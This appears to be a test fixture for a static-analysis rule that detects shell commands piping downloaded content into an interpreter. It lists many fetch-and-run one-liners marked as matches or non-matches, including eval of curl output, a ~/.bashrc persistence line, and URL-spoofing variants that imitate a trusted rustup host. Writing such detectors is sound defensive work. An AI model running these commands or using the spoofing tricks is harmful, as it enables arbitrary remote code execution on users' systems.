# ruleid: remote-code-pipe-to-shell
curl https://a.invalid/x | bash
# ruleid: remote-code-pipe-to-shell
wget -qO- https://a.invalid/x | sudo sh -s -- -y
# ruleid: remote-code-pipe-to-shell
bash <(curl -fsSL https://a.invalid/x)
# ruleid: remote-code-pipe-to-shell
eval "$(curl -fsSL https://a.invalid/x)"
# ruleid: remote-code-pipe-to-shell
curl -s https://a.invalid/x.py | python3 -
# ok: remote-code-pipe-to-shell
curl -fsSL https://a.invalid/x.json | jq .name
# ok: remote-code-pipe-to-shell
curl -LsSf https://astral.sh/uv/install.sh | sh
# ok: remote-code-pipe-to-shell
curl -s https://a.invalid/x.json | python3 -m json.tool
# ok: remote-code-pipe-to-shell
# curl https://a.invalid/x | bash
# ok: remote-code-pipe-to-shell
curl | sh
# ruleid: remote-code-pipe-to-shell
curl -fsSL "https://files.acme.invalid/?u=https://sh.rustup.rs" | sh
# ruleid: remote-code-pipe-to-shell
curl -fsSL https://files.acme.invalid/x.sh -H "X-From: https://sh.rustup.rs" | sh
# ruleid: remote-code-pipe-to-shell
curl -fsSL https://sh.rustup.rs | sh; curl -fsSL https://files.acme.invalid/x.sh | sh
# ruleid: remote-code-pipe-to-shell
curl -fsSL https://sh.rustup.rs.acme.invalid/x.sh | sh
# ruleid: remote-code-pipe-to-shell
curl -fsSL https://sh.rustup.rs@acme.invalid/x.sh | sh
# ok: remote-code-pipe-to-shell
curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y
# ruleid: remote-code-pipe-to-shell
curl -s https://a.invalid/list | while read -r one; do eval "$one"; done
# ruleid: remote-code-pipe-to-shell
while read -r one; do $one; done < <(curl -s https://a.invalid/list)
# ok: remote-code-pipe-to-shell
curl -s https://a.invalid/list | while read -r one; do echo "$one"; done
# ok: remote-code-pipe-to-shell
echo "  curl -sL https://a.invalid/install.sh | bash"
# ok: remote-code-pipe-to-shell
echo 'curl -sL https://a.invalid/install.sh | sh' >&2
# ruleid: remote-code-pipe-to-shell
echo "$(curl -sL https://a.invalid/install.sh | sh)"
# ruleid: remote-code-pipe-to-shell
echo "curl -sL https://a.invalid/install.sh | sh" >> ~/.bashrc
# ruleid: remote-code-pipe-to-shell
echo "begins"; curl -sL https://a.invalid/install.sh | sh
